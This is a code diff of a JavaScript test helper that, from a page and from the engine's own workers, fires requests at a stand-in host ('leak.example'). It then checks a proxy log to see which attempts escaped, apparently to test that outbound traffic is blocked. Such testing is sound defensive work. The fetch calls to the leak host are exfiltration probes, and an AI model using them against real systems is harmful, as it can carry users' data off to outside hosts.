@@ -1,6 +1,7 @@
 // Attempts to send something to another host, by every way that a page or a worker has.
 
 const HOST = 'http://leak.example';
+const WORKER_PATIENCE_MS = 3000;
 
 /** Runs in the page. Each attempt asks for an address that names it; whether it is answered does not matter. */
 async function leakFromPage(host) {
@@ -19,15 +20,15 @@ async function leakFromPage(host) {
   worker.terminate();
 }
 
-/** Tries everything, the engine's own workers included; returns the names of the attempts that went out. */
+/** Tries everything, the engine's own workers included; returns the names of the attempts that went out, and how many workers tried. */
 export async function leaks(page, proxy) {
   const from = proxy.log.length;
   await page.evaluate(leakFromPage, HOST);
-  let engines = 0;
-  for (const worker of page.workers()) {
-    engines += 1;
-    await worker.evaluate((address) => fetch(address, { mode: 'no-cors' }).catch(() => {}), `${HOST}/engine-worker`).catch(() => {});
-  }
+  const attempts = page.workers().map((worker) => Promise.race([
+    worker.evaluate((address) => fetch(address, { mode: 'no-cors' }).then(() => true, () => true), `${HOST}/engine-worker`).catch(() => false),
+    new Promise((resolve) => { setTimeout(resolve, WORKER_PATIENCE_MS, false); }), // The pool's threads wait for work and hear nothing.
+  ]));
+  const engines = (await Promise.all(attempts)).filter(Boolean).length;
   await page.waitForTimeout(500);
   const out = proxy.log.slice(from).map(({ url }) => new URL(url).pathname.slice(1));
   return { out: [...new Set(out)].sort(), engines };
